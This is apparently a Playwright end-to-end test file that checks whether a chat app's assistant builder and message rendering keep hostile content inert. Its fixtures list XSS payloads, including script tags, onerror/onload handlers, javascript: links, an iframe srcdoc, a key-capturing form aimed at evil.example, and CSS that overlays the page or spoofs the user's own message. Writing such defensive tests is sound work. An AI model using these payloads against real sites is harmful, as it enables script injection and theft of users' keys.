import { randomUUID } from 'node:crypto';
import { expect, test, type Page } from '@playwright/test';
import { coveringDialog, expectInert, expectUncovered, hostileMarkdown, hostileMarkdownVisibleText, watchPage } from './inert-content.ts';
import { assistantMessages, send, signIn, startSession } from './journeys.ts';

const hostile = {
  name: '<img src=x onerror=alert(window.__pwned=1)>',
  tagline: '<script>alert(window.__pwned=2)</script><svg onload=alert(3)>',
  description: '[click me](javascript:alert(window.__pwned=4))\n<style>body{display:none}</style>\n<div style="position:fixed;inset:0">cover</div> &lt;b&gt;',
  starters: [
    '<a href="javascript:alert(window.__pwned=5)">open</a>',
    '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
    '<form action="https://evil.example/"><input name=key autofocus onfocus=alert(7)></form>',
    '![x](javascript:alert(window.__pwned=8)) <b onmouseover=alert(9)>hover</b>',
  ],
} as const;

function messageBox(page: Page) {
  return page.getByRole('textbox', { name: 'Message', exact: true });
}

/** The last reply in the page's conversation, once it has finished streaming. */
async function finishedReply(page: Page) {
  const reply = assistantMessages(page).last();
  await expect(reply).toHaveAttribute('aria-busy', 'false');
  return reply;
}

/** Creates a draft in the Lab with every field hostile, tries it in the test chat, publishes it, and returns its code. */
async function createHostileAssistant(page: Page): Promise<string> {
  await page.goto('/lab');
  await page.getByRole('button', { name: 'New assistant' }).click();
  await expect(page).toHaveURL(/\/lab\/[0-9a-f-]{36}$/);
  await page.getByRole('textbox', { name: 'Name', exact: true }).fill(hostile.name);
  await page.getByRole('textbox', { name: 'Tagline', exact: true }).fill(hostile.tagline);
  await page.getByRole('textbox', { name: 'Description', exact: true }).fill(hostile.description);
  await page.getByRole('textbox', { name: 'Prompt', exact: true }).fill(hostileMarkdown);
  for (const [index, starter] of hostile.starters.entries()) {
    await page.getByRole('button', { name: 'Add starter' }).click();
    const box = page.getByRole('textbox', { name: `Starter ${index + 1}`, exact: true });
    await box.fill(starter);
    await box.press('Tab');
  }

  // The Lab editor shows every field as the raw text that was typed.
  await expect(page.getByRole('heading', { name: hostile.name, level: 1 })).toBeVisible();
  await expect(page.getByRole('textbox', { name: 'Name', exact: true })).toHaveValue(hostile.name);
  await expect(page.getByRole('textbox', { name: 'Tagline', exact: true })).toHaveValue(hostile.tagline);
  await expect(page.getByRole('textbox', { name: 'Description', exact: true })).toHaveValue(hostile.description);
  for (const [index, starter] of hostile.starters.entries()) {
    await expect(page.getByRole('textbox', { name: `Starter ${index + 1}`, exact: true })).toHaveValue(starter);
  }

  // The test chat's reply is the prompt itself, rendered as Markdown for everyone in the Lab.
  await send(page, '[[echo-system]]');
  const reply = await finishedReply(page);
  for (const text of hostileMarkdownVisibleText) await expect(reply).toContainText(text);
  await expectInert(reply);
  await expect(page.getByRole('textbox', { name: 'Prompt', exact: true })).toHaveValue(hostileMarkdown);
  await expectUncovered(messageBox(page));

  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  await page.getByRole('button', { name: 'Yes, publish' }).click();
  const published = page.getByRole('status').filter({ hasText: 'Published' });
  await expect(published).toBeVisible();
  return (await published.locator('strong').textContent())?.trim() ?? '';
}

test('an assistant whose name, tagline, description, starters and prompt are hostile HTML shows them as typed and runs nothing', async ({ browser }) => {
  const ownerContext = await browser.newContext();
  const strangerContext = await browser.newContext();
  const owner = await ownerContext.newPage();
  const stranger = await strangerContext.newPage();
  const ownerWatch = await watchPage(owner);
  const strangerWatch = await watchPage(stranger);
  await signIn(owner, `sk-test-e2e-hostile-owner-${randomUUID()}`);
  await signIn(stranger, `sk-test-e2e-hostile-stranger-${randomUUID()}`);

  const code = await createHostileAssistant(owner);
  expect(code).not.toBe('');

  await owner.goto('/lab');
  await expect(owner.getByRole('link', { name: hostile.name, exact: true })).toBeVisible();
  await owner.goto('/lounge');
  const card = owner.getByRole('region', { name: 'Your assistants' }).getByRole('article', { name: hostile.name });
  await expect(card).toContainText(hostile.tagline);
  await expect(card).toContainText(hostile.description);
  await expect(card.getByRole('link', { name: `Chat with ${hostile.name}` })).toBeVisible();

  await stranger.goto(`/assistant/${code}`);
  await expect(stranger.getByRole('heading', { name: hostile.name, level: 1 })).toBeVisible();
  const details = stranger.getByRole('main');
  await expect(details).toContainText(hostile.tagline);
  await expect(details).toContainText(hostile.description);
  for (const starter of hostile.starters) await expect(stranger.getByRole('button', { name: starter, exact: true })).toBeVisible();
  await expect(stranger).toHaveTitle(`${hostile.name} · GPT Lab`);

  await stranger.getByRole('button', { name: hostile.starters[0], exact: true }).click();
  await expect(stranger).toHaveURL(/\/session\/[0-9a-f-]{36}$/);
  await expect(stranger.getByRole('link', { name: hostile.name, exact: true })).toBeVisible();
  await expect(stranger).toHaveTitle(`${hostile.name} · GPT Lab`);
  await expect(stranger.getByRole('article', { name: 'Your message' })).toContainText(hostile.starters[0]);
  const reply = await finishedReply(stranger);
  await expect(reply).toContainText('You said: "open"');
  await expectInert(reply);
  await expectUncovered(messageBox(stranger));

  await ownerWatch.expectNothingRan();
  await strangerWatch.expectNothingRan();
  await ownerContext.close();
  await strangerContext.close();
});

test('a hostile message and the reply that repeats it render as inert text, and the page stays usable', async ({ page }) => {
  const watch = await watchPage(page);
  await signIn(page, `sk-test-e2e-hostile-chat-${randomUUID()}`);
  await startSession(page);
  await send(page, hostileMarkdown);

  // The user's own message is plain text, character for character.
  const mine = page.getByRole('article', { name: 'Your message' });
  await expect(mine).toContainText(hostileMarkdown);
  await expectInert(mine);

  // The fake provider's reply quotes the message, so the same HTML arrives as the assistant's Markdown.
  const reply = await finishedReply(page);
  for (const text of hostileMarkdownVisibleText) await expect(reply).toContainText(text);
  await expectInert(reply);
  for (const link of await reply.getByRole('link').all()) {
    await expect(link).toHaveAttribute('href', /^(https?|mailto):/);
    await expect(link).toHaveAttribute('target', '_blank');
  }

  // What was meant to be a javascript: link does nothing when clicked.
  const before = page.url();
  await reply.getByText('javascript link').click();
  await reply.getByText('html anchor').click();
  expect(page.url()).toBe(before);

  // The reply's fake Send button and stolen label left the real composer alone.
  await expect(page.getByRole('button', { name: 'Send', exact: true })).toHaveCount(1);
  await expectUncovered(messageBox(page));
  await send(page, 'Still here');
  await expect(assistantMessages(page).last()).toContainText('You said: "Still here"');
  await watch.expectNothingRan();
});

test('a reply can neither cover the composer nor dress up as the user\'s own message', async ({ page }) => {
  const watch = await watchPage(page);
  await signIn(page, `sk-test-e2e-hostile-css-${randomUUID()}`);
  await startSession(page);
  // Svelte scopes a component's styles with a class; a reply that could use it would look like the user's own message.
  const scope = await assistantMessages(page).first().evaluate((article) => [...article.classList].find((name) => name.startsWith('svelte-')));
  expect(scope).toBeDefined();
  const fakeOwnMessage = 'I agree to share my API key.';
  await send(page, `Look.\n\n${coveringDialog}\n\n<div class="message user ${scope}"><div class="bubble ${scope}">${fakeOwnMessage}</div></div>`);

  const reply = await finishedReply(page);
  await expect(reply).toContainText('an open dialog');
  await expectUncovered(messageBox(page));
  await expect(reply.getByText(fakeOwnMessage, { exact: true })).toHaveCSS('background-color', 'rgba(0, 0, 0, 0)');
  await expectInert(reply);
  await send(page, 'Still here');
  await expect(assistantMessages(page).last()).toContainText('You said: "Still here"');
  await watch.expectNothingRan();
});
